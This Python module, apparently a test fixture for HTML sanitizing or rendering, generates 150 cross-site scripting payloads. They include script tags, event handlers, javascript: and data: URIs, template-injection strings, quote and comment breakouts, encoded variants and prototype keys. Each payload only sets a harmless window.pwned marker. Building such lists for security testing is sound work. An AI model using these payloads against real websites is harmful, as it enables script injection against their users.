"""Texts that would like to be markup or code: 150 of them, each of which would set one global."""

from collections.abc import Iterator

RUNS = "window.pwned=1"
"""What each would do."""

_TAGS = (
    "<script>{0}</script>",
    "<script type=module>{0}</script>",
    "<script src=data:text/javascript,{0}></script>",
    "<img src=x onerror={0}>",
    "<img src=x:x onerror=\"{0}\">",
    "<img/src/onerror={0}>",
    "<image src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg/onload={0}//",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:{0}\"><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload={0}>#x\">",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}>",
    "<body onload={0}>",
    "<iframe src=\"javascript:{0}\">",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\">",
    "<object data=\"javascript:{0}\">",
    "<embed src=\"javascript:{0}\">",
    "<video><source onerror={0}>",
    "<audio src=x onerror={0}>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>",
    "<textarea autofocus onfocus={0}>",
    "<marquee onstart={0}>",
    "<a href=\"javascript:{0}\" autofocus tabindex=0 onfocus={0}>x</a>",
    "<form action=\"javascript:{0}\"><button autofocus onfocus={0}>x",
    "<button formaction=\"javascript:{0}\" popovertarget=x onclick={0}>x",
    "<link rel=stylesheet href=\"javascript:{0}\" onerror={0}>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">",
    "<base href=\"javascript:{0}//\">",
    "<style>@import 'javascript:{0}';*{{background:url(javascript:{0})}}</style>",
    "<div style=\"animation:x\" onanimationstart={0}>",
    "<div popover id=x onbeforetoggle={0}>",
    "<template shadowrootmode=open><script>{0}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={0}>\">",
    "<xmp><p title=\"</xmp><svg onload={0}>\">",
    "<!--><img src=x onerror={0}>-->",
    "<![CDATA[<script>{0}</script>]]>",
)  # fmt: skip
_TEXTS = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\tscript:{0}",
    "\x01javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "vbscript:{0}",
    "${{{0}}}",
    "{{{{constructor.constructor('{0}')()}}}}",
    "';{0};'",
    "\";{0};\"",
    "`+({0})+`",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "%3Cscript%3E{0}%3C/script%3E",
    "\u2028{0}\u2029",
    "\u202e<script>{0}</script>",
    "#/calls/../../x?\"><script>{0}</script>",
    "__proto__",
    "constructor",
    "toString",
)  # fmt: skip
_BREAKS = ('"><', "'><", "</script>", "</textarea></title></style>", "-->", "]]>", "\0")


def _made() -> Iterator[str]:
    for text in (*_TAGS, *_TEXTS):
        yield text.format(RUNS)
    for place, text in enumerate(_TAGS * 3):
        breaks = _BREAKS[(place + place // len(_TAGS)) % len(_BREAKS)]
        yield f"{breaks}{text.format(RUNS)}"


PAYLOADS = tuple(dict.fromkeys(_made()))[:150]
"""Each once."""
assert len(PAYLOADS) == 150
